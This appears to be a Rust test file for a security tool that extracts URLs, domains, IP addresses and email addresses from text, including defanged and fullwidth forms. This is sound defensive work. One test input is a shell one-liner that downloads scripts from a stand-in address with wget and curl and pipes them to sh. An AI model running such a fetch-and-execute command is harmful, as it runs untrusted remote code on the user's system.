//! URLs and mail addresses.

use super::check;

#[test]
fn urls_are_found_with_their_hosts() {
    check(
        "http://example.com/a?b=c#d",
        &["url http://example.com/a?b=c#d", "domain example.com"],
    );
    check(
        "HTTPS://Example.COM/Path",
        &["url https://example.com/Path", "domain example.com"],
    );
    check(
        "http://example.com/ http://example.com",
        &["url http://example.com", "domain example.com"],
    );
    check(
        "hxxp://evil[.]com/a.exe",
        &["url http://evil.com/a.exe", "domain evil.com"],
    );
    check(
        "hXXps[:]//evil[.]com",
        &["url https://evil.com", "domain evil.com"],
    );
    check(
        "hxxps[://]evil(.)com/x",
        &["url https://evil.com/x", "domain evil.com"],
    );
    check(
        "hxxp://evil dot com/x",
        &["url http://evil.com/x", "domain evil.com"],
    );
    check(
        "ｈｔｔｐ：／／ｅｖｉｌ．ｃｏｍ／ａ",
        &["url http://evil.com/a", "domain evil.com"],
    );
    check(
        "http：//evil．com／a",
        &["url http://evil.com/a", "domain evil.com"],
    );
    check(
        "http://evil。com/a",
        &["url http://evil.com/a", "domain evil.com"],
    );
    check(
        "fxp://evil.com/a ftp://evil.net/",
        &[
            "url ftp://evil.com/a",
            "domain evil.com",
            "url ftp://evil.net",
            "domain evil.net",
        ],
    );
    check(
        "http://203.0.113.5:8080/x",
        &["url http://203.0.113.5:8080/x", "ipv4 203.0.113.5"],
    );
    check(
        "https://example.com:443/x http://example.com:80/y",
        &[
            "url https://example.com/x",
            "domain example.com",
            "url http://example.com/y",
        ],
    );
    check(
        "http://[2001:DB8::1]:8080/x",
        &["url http://[2001:db8::1]:8080/x", "ipv6 2001:db8::1"],
    );
    check(
        "http://example.com/fooにアクセス",
        &["url http://example.com/foo", "domain example.com"],
    );
    check(
        "http://example.comにアクセス",
        &["url http://example.com", "domain example.com"],
    );
    check(
        "（http://example.com/a）、「https://example.net/b」。",
        &[
            "url http://example.com/a",
            "domain example.com",
            "url https://example.net/b",
            "domain example.net",
        ],
    );
    check(
        "<http://example.com/a>, (http://example.com/b).",
        &[
            "url http://example.com/a",
            "domain example.com",
            "url http://example.com/b",
        ],
    );
    check(
        "http://example.com/a(b)c http://example.com/x).",
        &[
            "url http://example.com/a(b)c",
            "domain example.com",
            "url http://example.com/x",
        ],
    );
    check(
        "[link](http://example.com/a)",
        &["url http://example.com/a", "domain example.com"],
    );
    check(
        "http://example.com/a,http://example.net/b",
        &[
            "url http://example.com/a",
            "domain example.com",
            "url http://example.net/b",
            "domain example.net",
        ],
    );
    check(
        "http://google.com@evil.com/login",
        &["url http://google.com@evil.com/login", "domain evil.com"],
    );
    check(
        "&lt;a href=&quot;http://example.com/a&quot;&gt;",
        &["url http://example.com/a", "domain example.com"],
    );
    check(
        "http://intranet/page http://localhost:3000",
        &["url http://intranet/page", "url http://localhost:3000"],
    );
    check(
        "example.com/path/file.html",
        &["url example.com/path/file.html", "domain example.com"],
    );
    check("evil[.]com/path", &["url evil.com/path", "domain evil.com"]);
    check(
        "203.0.113.5/gate.php",
        &["url 203.0.113.5/gate.php", "ipv4 203.0.113.5"],
    );
    check(
        "example.com:8080/x",
        &["url example.com:8080/x", "domain example.com"],
    );
    check(
        "http://example.com/?q=http://evil.com/",
        &["url http://example.com/?q=http://evil.com/", "domain example.com"],
    );
    check(
        "http://evil.zip/a https://main.rs",
        &[
            "url http://evil.zip/a",
            "domain evil.zip",
            "url https://main.rs",
            "domain main.rs",
        ],
    );
    check("http:// http://http:// ://a http:///x http://. http://-/", &[]);
}

#[test]
fn what_follows_a_url_does_not_stick() {
    check(
        "wget http://203.0.113.5/a;sh x&&curl http://203.0.113.5/b.sh|sh",
        &[
            "url http://203.0.113.5/a",
            "ipv4 203.0.113.5",
            "url http://203.0.113.5/b.sh",
        ],
    );
    check(
        "http://example.com/a;jsessionid=1?b=2;c=3",
        &[
            "url http://example.com/a;jsessionid=1?b=2;c=3",
            "domain example.com",
        ],
    );
    check(
        "203.0.113.5/198.51.100.7",
        &["ipv4 203.0.113.5", "ipv4 198.51.100.7"],
    );
    check(
        "203.0.113.5／198.51.100.7",
        &["ipv4 203.0.113.5", "ipv4 198.51.100.7"],
    );
    check(
        "http://example[.]com[/]path",
        &["url http://example.com/path", "domain example.com"],
    );
    check(
        "https://ja.wikipedia.org/wiki/日本",
        &["url https://ja.wikipedia.org/wiki/", "domain ja.wikipedia.org"],
    );
}

#[test]
fn mail_addresses_are_found() {
    check("Taro.Yamada@Example.co.jp", &["email taro.yamada@example.co.jp"]);
    check("連絡先taro@example.comまで", &["email taro@example.com"]);
    check(
        "<taro+tag@example.com>, mailto:hanako@example.com",
        &["email taro+tag@example.com", "email hanako@example.com"],
    );
    check(
        "first.in+tag.me@example.com",
        &["email first.in+tag.me@example.com"],
    );
    check(
        "taro[at]example[.]com taro(at)example(dot)net taro[@]example.org",
        &[
            "email taro@example.com",
            "email taro@example.net",
            "email taro@example.org",
        ],
    );
    check("taro [at] example [dot] com", &["email taro@example.com"]);
    check("ｔａｒｏ＠ｅｘａｍｐｌｅ．ｃｏｍ", &["email taro@example.com"]);
    check(
        "docomo..taro.@docomo.ne.jp",
        &["email docomo..taro.@docomo.ne.jp"],
    );
    check("taro@example.com.", &["email taro@example.com"]);
    check("taro@example.zip", &["email taro@example.zip"]);
    check("taro@localhost @@ a@ @b x@y user@4.17.21", &[]);
}
